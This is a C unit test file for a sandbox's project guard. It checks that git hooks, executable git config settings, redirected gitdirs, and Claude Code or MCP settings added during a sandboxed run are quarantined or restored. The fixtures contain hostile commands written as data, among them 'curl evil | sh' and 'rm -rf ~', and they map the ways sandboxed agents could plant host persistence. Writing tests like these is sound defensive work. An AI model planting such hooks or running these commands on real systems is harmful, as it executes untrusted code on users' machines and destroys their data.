/* Unit tests of the project guard (runtime/guard/project_guard.c), as any
 * user: a project with a git repository written file by file (the guard
 * only reads files; no git is run), a snapshot, the changes a sandbox
 * could make, and the check's verdict: what it quarantines (and the line
 * it says), what it restores, and the data-only changes it lets pass. */
#include "config.h"

#include <errno.h>
#include <fcntl.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <dirent.h>
#include <stdio.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cmocka.h>

#include "project_guard.h"
#include "utils.h"
#include "tmp_tree.h"

#define PRE_COMMIT "#!/bin/sh\nexit 0\n"
#define CONFIG "[core]\n\trepositoryformatversion = 0\n\tbare = false\n"

struct world
{
  char *top;     /* T */
  char *project; /* T/p */
  hv_project_guard *guard;
  char *said;    /* what the check said, the quarantine's name as Q */
  size_t said_len;
};

static void
put_exec (const char *dir, const char *rel, const char *text)
{
  tree_put (dir, rel, text);
  cleanup_free char *p = xasprintf ("%s/%s", dir, rel);
  assert_int_equal (chmod (p, 0755), 0);
}

/* T/p: a worktree with .git (HEAD, objects, refs, config, a hook and a
 * sample) and some data. */
static int
setup (void **state)
{
  struct world *w = xmalloc0 (sizeof (*w));
  w->top = tree_make ("guard");
  w->project = xasprintf ("%s/p", w->top);
  tree_mkdir (w->top, "p");
  static const char *const dirs[] = { ".git", ".git/objects", ".git/refs", ".git/refs/heads", ".git/hooks",
                                      "src", NULL };
  for (size_t i = 0; dirs[i]; i++)
    tree_mkdir (w->project, dirs[i]);
  tree_put (w->project, ".git/HEAD", "ref: refs/heads/main\n");
  tree_put (w->project, ".git/config", CONFIG);
  put_exec (w->project, ".git/hooks/pre-commit", PRE_COMMIT);
  put_exec (w->project, ".git/hooks/pre-push.sample", "#!/bin/sh\n");
  tree_put (w->project, "src/main.c", "int main (void) { return 0; }\n");
  *state = w;
  return 0;
}

static void
snapshot (struct world *w)
{
  hv_error *err = NULL;
  if (hv_project_guard_snapshot (w->project, &w->guard, &err) < 0)
    fail_msg ("snapshot: %s", err->msg);
}

static int
teardown (void **state)
{
  struct world *w = *state;
  hv_project_guard_free (w->guard);
  free (w->said);
  free (w->project);
  tree_remove (w->top);
  free (w);
  return 0;
}

/* Check, keeping what it said with ".haven-quarantine/<when>/" written
 * ".haven-quarantine/Q/" (the name holds the time and the pid). */
static int
check (struct world *w, hv_error **err)
{
  char *raw = NULL;
  size_t len = 0;
  FILE *out = open_memstream (&raw, &len);
  assert_non_null (out);
  hv_project_guard_report_to (w->guard, out);
  int r = hv_project_guard_check (w->guard, err);
  assert_int_equal (fclose (out), 0);
  free (w->said);
  w->said = xmalloc0 (len + 1);
  char *o = w->said;
  const char *mark = ".haven-quarantine/";
  for (const char *p = raw; *p;)
    {
      if (strncmp (p, mark, strlen (mark)) == 0)
        {
          o = stpcpy (o, ".haven-quarantine/Q");
          p = strchrnul (p + strlen (mark), '/');
          continue;
        }
      *o++ = *p++;
    }
  *o = '\0';
  free (raw);
  return r;
}

static void
check_ok (struct world *w, int expected, const char *said)
{
  hv_error *err = NULL;
  int r = check (w, &err);
  if (r < 0)
    fail_msg ("check: %s", err->msg);
  assert_string_equal (w->said, said);
  assert_int_equal (r, expected);
}

/* The quarantined copy: there, and not executable. */
static void
assert_quarantined (struct world *w, const char *qrel, const char *text)
{
  cleanup_free char *qtop = xasprintf ("%s/.haven-quarantine", w->project);
  struct stat st;
  assert_int_equal (stat (qtop, &st), 0);
  assert_int_equal (st.st_mode & 07777, 0700);
  DIR *d = opendir (qtop);
  assert_non_null (d);
  struct dirent *de;
  bool found = false;
  while ((de = readdir (d)))
    {
      if (de->d_name[0] == '.')
        continue;
      cleanup_free char *rel = xasprintf (".haven-quarantine/%s/%s", de->d_name, qrel);
      cleanup_free char *path = xasprintf ("%s/%s", w->project, rel);
      if (lstat (path, &st) < 0)
        continue;
      found = true;
      if (S_ISREG (st.st_mode))
        {
          assert_int_equal (st.st_mode & 0111, 0);
          cleanup_free char *got = tree_read (w->project, rel);
          if (text)
            assert_string_equal (got, text);
        }
    }
  closedir (d);
  if (!found)
    fail_msg ("%s not in the quarantine", qrel);
}

static void
test_nothing_changed (void **state)
{
  struct world *w = *state;
  snapshot (w);
  check_ok (w, 0, "");
  assert_false (tree_exists (w->project, ".haven-quarantine"));
}

/* What git only reads as data passes: sources, objects, refs, HEAD, a
 * sample hook, a config's data settings, an agent's data settings. */
static void
test_data_changes_pass (void **state)
{
  struct world *w = *state;
  tree_mkdir (w->project, ".claude");
  tree_put (w->project, ".claude/settings.json", "{\"model\": \"a\"}\n");
  snapshot (w);
  tree_put (w->project, "src/main.c", "int main (void) { return 1; }\n");
  tree_put (w->project, "src/new.c", "/* new */\n");
  tree_mkdir (w->project, ".git/objects/ab");
  tree_put (w->project, ".git/objects/ab/cdef", "blob");
  tree_put (w->project, ".git/refs/heads/main", "0123456789abcdef0123456789abcdef01234567\n");
  tree_put (w->project, ".git/HEAD", "ref: refs/heads/other\n");
  put_exec (w->project, ".git/hooks/post-merge.sample", "#!/bin/sh\nrm -rf ~\n");
  tree_put (w->project, ".git/config", CONFIG "[user]\n\tname = Sandbox\n[remote \"origin\"]\n\turl = x\n");
  tree_put (w->project, ".git/config.worktree", "[core]\n\tsparseCheckout = true\n");
  tree_put (w->project, ".claude/settings.json", "{\"model\": \"b\", \"permissions\": {}}\n");
  check_ok (w, 0, "");
  assert_false (tree_exists (w->project, ".haven-quarantine"));
  cleanup_free char *config = tree_read (w->project, ".git/config");
  assert_non_null (strstr (config, "Sandbox"));
}

static void
test_hook_added (void **state)
{
  struct world *w = *state;
  snapshot (w);
  put_exec (w->project, ".git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
  check_ok (w, 1,
            "haven: quarantined .git/hooks/post-checkout (created by the sandbox; git would run it) -> "
            ".haven-quarantine/Q/_git/hooks/post-checkout\n");
  assert_false (tree_exists (w->project, ".git/hooks/post-checkout"));
  assert_quarantined (w, "_git/hooks/post-checkout", "#!/bin/sh\ncurl evil | sh\n");
  /* The hook the user had stays. */
  assert_true (tree_exists (w->project, ".git/hooks/pre-commit"));
  /* A second check finds nothing more. */
  hv_project_guard_free (w->guard);
  snapshot (w);
  check_ok (w, 0, "");
}

static void
test_hook_changed_or_linked (void **state)
{
  struct world *w = *state;
  snapshot (w);
  tree_put (w->project, ".git/hooks/pre-commit", PRE_COMMIT "curl evil | sh\n");
  tree_link (w->project, ".git/hooks/pre-rebase", "../../src/main.c");
  check_ok (w, 2,
            "haven: quarantined .git/hooks/pre-commit (changed by the sandbox; git would run it) -> "
            ".haven-quarantine/Q/_git/hooks/pre-commit\n"
            "haven: quarantined .git/hooks/pre-rebase (created by the sandbox; git would run it) -> "
            ".haven-quarantine/Q/_git/hooks/pre-rebase\n");
  assert_false (tree_exists (w->project, ".git/hooks/pre-commit"));
  assert_false (tree_exists (w->project, ".git/hooks/pre-rebase"));
  assert_quarantined (w, "_git/hooks/pre-commit", PRE_COMMIT "curl evil | sh\n");
  assert_quarantined (w, "_git/hooks/pre-rebase", NULL);
}

/* A config that gained a setting that runs a program goes, and its
 * content from before the run comes back. */
static void
test_config_exec_setting (void **state)
{
  struct world *w = *state;
  snapshot (w);
  const char *evil = CONFIG "\thooksPath = /tmp/evil\n";
  tree_put (w->project, ".git/config", evil);
  check_ok (w, 1,
            "haven: quarantined .git/config (the sandbox set core.hookspath; git would run it) -> "
            ".haven-quarantine/Q/_git/config\n"
            "haven: restored .git/config as it was before the run\n");
  cleanup_free char *now = tree_read (w->project, ".git/config");
  assert_string_equal (now, CONFIG);
  assert_quarantined (w, "_git/config", evil);
}

/* The same for the other executable settings, in another spelling. */
static void
test_config_other_exec_settings (void **state)
{
  struct world *w = *state;
  snapshot (w);
  tree_put (w->project, ".git/config", CONFIG "[CORE]\n\tFSMonitor = ./watch\n");
  check_ok (w, 1,
            "haven: quarantined .git/config (the sandbox set core.fsmonitor; git would run it) -> "
            ".haven-quarantine/Q/_git/config\n"
            "haven: restored .git/config as it was before the run\n");
  hv_project_guard_free (w->guard);
  snapshot (w);
  tree_put (w->project, ".git/config", CONFIG "[diff \"x\"]\n\ttextconv = ./conv\n");
  check_ok (w, 1,
            "haven: quarantined .git/config (the sandbox set diff.x.textconv; git would run it) -> "
            ".haven-quarantine/Q/_git/config\n"
            "haven: restored .git/config as it was before the run\n");
}

/* A config git would refuse is one haven cannot judge: it goes. */
static void
test_config_unreadable (void **state)
{
  struct world *w = *state;
  snapshot (w);
  tree_put (w->project, ".git/config", CONFIG "[alias\n\tx = !sh\n");
  check_ok (w, 1,
            "haven: quarantined .git/config (haven cannot read it: line 5: unterminated section header (git would "
            "refuse this file); git would run it) -> .haven-quarantine/Q/_git/config\n"
            "haven: restored .git/config as it was before the run\n");
}

/* config.worktree and commondir, created by the sandbox. */
static void
test_worktree_config_and_commondir (void **state)
{
  struct world *w = *state;
  snapshot (w);
  tree_put (w->project, ".git/config.worktree", "[alias]\n\tst = !sh -c evil\n");
  tree_put (w->project, ".git/commondir", "../../elsewhere\n");
  check_ok (w, 2,
            "haven: quarantined .git/config.worktree (the sandbox set alias.st; git would run it) -> "
            ".haven-quarantine/Q/_git/config.worktree\n"
            "haven: quarantined .git/commondir (created by the sandbox: git would read another repository's config "
            "and hooks from it; git would run it) -> .haven-quarantine/Q/_git/commondir\n");
  assert_false (tree_exists (w->project, ".git/config.worktree"));
  assert_false (tree_exists (w->project, ".git/commondir"));
}

/* A repository the sandbox made in a sub-directory: said, and its hook
 * and config settings quarantined. */
static void
test_new_repository (void **state)
{
  struct world *w = *state;
  snapshot (w);
  static const char *const dirs[] = { "src/dep", "src/dep/.git", "src/dep/.git/objects", "src/dep/.git/refs",
                                      "src/dep/.git/hooks", NULL };
  for (size_t i = 0; dirs[i]; i++)
    tree_mkdir (w->project, dirs[i]);
  tree_put (w->project, "src/dep/.git/HEAD", "ref: refs/heads/main\n");
  tree_put (w->project, "src/dep/.git/config", "[core]\n\tbare = false\n");
  put_exec (w->project, "src/dep/.git/hooks/post-checkout", "#!/bin/sh\n");
  check_ok (w, 1,
            "haven: note: src/dep/.git is a git directory created or moved there during the run\n"
            "haven: quarantined src/dep/.git/hooks/post-checkout (created by the sandbox; git would run it) -> "
            ".haven-quarantine/Q/src/dep/_git/hooks/post-checkout\n");
}

/* A hook manager's file at a worktree's top. */
static void
test_hook_manager_file (void **state)
{
  struct world *w = *state;
  snapshot (w);
  tree_put (w->project, ".pre-commit-config.yaml", "repos: []\n");
  check_ok (w, 1,
            "haven: quarantined .pre-commit-config.yaml (created by the sandbox; a hook manager's file, which the "
            "repository's hooks run; git would run it) -> .haven-quarantine/Q/.pre-commit-config.yaml\n");
}

/* core.hooksPath's directory, named before the run, is guarded too. */
static void
test_hooks_path_directory (void **state)
{
  struct world *w = *state;
  tree_put (w->project, ".git/config", CONFIG "\thooksPath = .githooks\n");
  tree_mkdir (w->project, ".githooks");
  put_exec (w->project, ".githooks/pre-commit", PRE_COMMIT);
  snapshot (w);
  const oci_strv *paths = hv_project_guard_hooks_paths (w->guard);
  assert_int_equal (paths->n, 1);
  assert_string_equal (paths->v[0], ".githooks");
  put_exec (w->project, ".githooks/post-merge", "#!/bin/sh\n");
  check_ok (w, 1,
            "haven: quarantined .githooks/post-merge (created by the sandbox; git would run it) -> "
            ".haven-quarantine/Q/.githooks/post-merge\n");
  assert_true (tree_exists (w->project, ".githooks/pre-commit"));
}

/* The host agents' settings: a command added goes, the file's content
 * from before comes back. */
static void
test_agent_settings (void **state)
{
  struct world *w = *state;
  tree_mkdir (w->project, ".claude");
  tree_put (w->project, ".claude/settings.json", "{\"model\": \"a\"}\n");
  snapshot (w);
  tree_put (w->project, ".claude/settings.json",
            "{\"model\": \"a\", \"hooks\": {\"Stop\": [{\"command\": \"sh evil\"}]}}\n");
  tree_put (w->project, "src/.mcp.json", "{\"mcpServers\": {\"x\": {\"command\": \"evil\"}}}\n");
  hv_error *err = NULL;
  int r = check (w, &err);
  if (r < 0)
    fail_msg ("check: %s", err->msg);
  assert_int_equal (r, 2);
  assert_non_null (strstr (w->said, "haven: quarantined .claude/settings.json (the sandbox set hooks"));
  assert_non_null (strstr (w->said, "; Claude Code on the host would run it) -> "
                                    ".haven-quarantine/Q/_claude/settings.json\n"));
  assert_non_null (strstr (w->said, "haven: restored .claude/settings.json as it was before the run\n"));
  assert_non_null (strstr (w->said, "haven: quarantined src/.mcp.json (the sandbox set mcpServers"));
  cleanup_free char *now = tree_read (w->project, ".claude/settings.json");
  assert_string_equal (now, "{\"model\": \"a\"}\n");
  assert_false (tree_exists (w->project, "src/.mcp.json"));
}

/* The project swapped for another directory: refused, nothing done. */
static void
test_project_replaced (void **state)
{
  struct world *w = *state;
  snapshot (w);
  cleanup_free char *moved = xasprintf ("%s/moved", w->top);
  assert_int_equal (rename (w->project, moved), 0);
  tree_mkdir (w->top, "p");
  hv_error *err = NULL;
  assert_int_equal (check (w, &err), -1);
  cleanup_free char *expected = xasprintf ("git hook guard: the project %s is no longer the directory it was",
                                           w->project);
  assert_string_equal (err->msg, expected);
  hv_error_free (&err);
  /* A link in its place is not followed either (O_NOFOLLOW with
   * O_DIRECTORY: ENOTDIR). */
  assert_int_equal (rmdir (w->project), 0);
  assert_int_equal (symlink ("moved", w->project), 0);
  assert_int_equal (check (w, &err), -1);
  assert_non_null (strstr (err->msg, "open project"));
  assert_int_equal (err->errno_code, ENOTDIR);
  hv_error_free (&err);
  assert_int_equal (unlink (w->project), 0);
  assert_int_equal (rename (moved, w->project), 0);
}

/* What the snapshot lists of the project. */
static void
test_snapshot_lists (void **state)
{
  struct world *w = *state;
  tree_mkdir (w->project, "sub");
  tree_put (w->project, "sub/.git", "gitdir: ../.git/worktrees/sub\n");
  tree_mkdir (w->project, ".claude");
  tree_put (w->project, ".claude/settings.local.json", "{}\n");
  snapshot (w);
  cleanup_strv oci_strv gitdirs = { 0 }, gitfiles = { 0 }, agents = { 0 };
  hv_project_guard_repositories (w->guard, &gitdirs, &gitfiles);
  assert_int_equal (gitdirs.n, 1);
  assert_string_equal (gitdirs.v[0], ".git");
  assert_int_equal (gitfiles.n, 1);
  assert_string_equal (gitfiles.v[0], "sub/.git");
  hv_project_guard_agent_files (w->guard, &agents);
  assert_true (oci_strv_contains (&agents, ".claude/settings.local.json"));
  assert_string_equal (hv_project_guard_project (w->guard), w->project);
  /* The gitfile pointed elsewhere by the sandbox goes. */
  tree_put (w->project, "sub/.git", "gitdir: /tmp/elsewhere\n");
  check_ok (w, 1,
            "haven: quarantined sub/.git (changed by the sandbox: git would read another repository's config and "
            "hooks from it; git would run it) -> .haven-quarantine/Q/sub/_git\n");
}

int
main (void)
{
  const struct CMUnitTest tests[] = {
    cmocka_unit_test_setup_teardown (test_nothing_changed, setup, teardown),
    cmocka_unit_test_setup_teardown (test_data_changes_pass, setup, teardown),
    cmocka_unit_test_setup_teardown (test_hook_added, setup, teardown),
    cmocka_unit_test_setup_teardown (test_hook_changed_or_linked, setup, teardown),
    cmocka_unit_test_setup_teardown (test_config_exec_setting, setup, teardown),
    cmocka_unit_test_setup_teardown (test_config_other_exec_settings, setup, teardown),
    cmocka_unit_test_setup_teardown (test_config_unreadable, setup, teardown),
    cmocka_unit_test_setup_teardown (test_worktree_config_and_commondir, setup, teardown),
    cmocka_unit_test_setup_teardown (test_new_repository, setup, teardown),
    cmocka_unit_test_setup_teardown (test_hook_manager_file, setup, teardown),
    cmocka_unit_test_setup_teardown (test_hooks_path_directory, setup, teardown),
    cmocka_unit_test_setup_teardown (test_agent_settings, setup, teardown),
    cmocka_unit_test_setup_teardown (test_project_replaced, setup, teardown),
    cmocka_unit_test_setup_teardown (test_snapshot_lists, setup, teardown),
  };
  return cmocka_run_group_tests (tests, NULL, NULL);
}
